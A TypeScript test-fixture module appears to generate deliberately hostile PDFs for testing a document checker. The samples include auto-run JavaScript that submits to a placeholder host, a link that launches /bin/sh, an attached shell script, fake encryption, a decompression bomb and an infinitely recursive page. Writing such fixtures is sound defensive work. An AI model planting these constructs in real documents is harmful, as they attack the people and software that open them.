import { deflateSync } from 'node:zlib';
import { degrees, PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts } from 'pdf-lib';

/** Documents that nobody would want to have, made for the occasion. */

export interface PdfWishes {
  readonly pages?: number;
  /** Points; A4 when left out. */
  readonly size?: readonly [number, number];
  readonly text?: string;
}

async function document({ pages = 1, size = [595, 842], text = 'Wniosek' }: PdfWishes = {}): Promise<PDFDocument> {
  const pdf = await PDFDocument.create({ updateMetadata: false });
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  for (let number = 0; number < pages; number += 1) {
    const page = pdf.addPage([...size]);
    page.drawText(text, { x: 40, y: size[1] / 2, size: 24, font, rotate: degrees(0) });
  }
  return pdf;
}

const saved = (pdf: PDFDocument) => pdf.save({ useObjectStreams: false, updateFieldAppearances: false });

export async function aPdf(wishes: PdfWishes = {}): Promise<Uint8Array> {
  return saved(await document(wishes));
}

/** Looks like `aPdf()`, and runs a script when it is opened, when a page is opened and by name. */
export async function pdfWithScripts(): Promise<Uint8Array> {
  const pdf = await document();
  const script = { S: 'JavaScript', JS: PDFString.of('app.alert("x"); this.submitForm("http://x.example/")') };
  pdf.catalog.set(PDFName.of('OpenAction'), pdf.context.obj({ Type: 'Action', ...script }));
  pdf.catalog.set(PDFName.of('AA'), pdf.context.obj({ WC: script }));
  pdf.getPage(0).node.set(PDFName.of('AA'), pdf.context.obj({ O: script }));
  pdf.addJavaScript('start', 'app.launchURL("http://x.example/")');
  return saved(pdf);
}

/** Looks like `aPdf()`, with a link over all of its page to a web address and one that starts a program. */
export async function pdfWithLinks(): Promise<Uint8Array> {
  const pdf = await document();
  const link = (action: Record<string, unknown>) =>
    pdf.context.register(
      pdf.context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 595, 842],
        Border: [0, 0, 0],
        A: action as never,
      }),
    );
  pdf
    .getPage(0)
    .node.set(
      PDFName.of('Annots'),
      pdf.context.obj([
        link({ S: 'URI', URI: PDFString.of('http://x.example/') }),
        link({ S: 'Launch', F: PDFString.of('/bin/sh') }),
      ]),
    );
  return saved(pdf);
}

/** Looks like `aPdf()`, with a program attached. */
export async function pdfWithAttachment(): Promise<Uint8Array> {
  const pdf = await document();
  await pdf.attach(new TextEncoder().encode('#!/bin/sh\necho x'), 'x.sh', { mimeType: 'text/x-sh' });
  return saved(pdf);
}

/** Asks for a password. */
export async function pdfWithPassword(): Promise<Uint8Array> {
  const pdf = await document();
  const bytes = (byte: string) => PDFHexString.of(byte.repeat(32));
  pdf.context.trailerInfo.Encrypt = pdf.context.register(
    pdf.context.obj({ Filter: 'Standard', V: 1, R: 2, O: bytes('5A'), U: bytes('A5'), P: -4 }),
  );
  pdf.context.trailerInfo.ID = pdf.context.obj([bytes('01'), bytes('01')]);
  return saved(pdf);
}

/** A small file whose page unpacks to `megabytes` of blanks. */
export async function pdfThatUnpacksTo(megabytes: number): Promise<Uint8Array> {
  const pdf = await document();
  const packed = deflateSync(deflateSync(Buffer.alloc(megabytes * 1024 * 1024, ' '), { level: 9 }));
  const stream = pdf.context.stream(packed, { Filter: ['FlateDecode', 'FlateDecode'] });
  pdf.getPage(0).node.set(PDFName.of('Contents'), pdf.context.register(stream));
  return saved(pdf);
}

/** A page that draws itself, for ever. */
export async function pdfThatDrawsItself(): Promise<Uint8Array> {
  const pdf = await document();
  const own = pdf.context.nextRef();
  const resources = { XObject: { Again: own } };
  pdf.context.assign(
    own,
    pdf.context.stream('/Again Do /Again Do', {
      Type: 'XObject',
      Subtype: 'Form',
      BBox: [0, 0, 595, 842],
      Resources: resources as never,
    }),
  );
  const page = pdf.getPage(0).node;
  page.set(PDFName.of('Resources'), pdf.context.obj(resources as never));
  page.set(PDFName.of('Contents'), pdf.context.register(pdf.context.stream('/Again Do')));
  return saved(pdf);
}
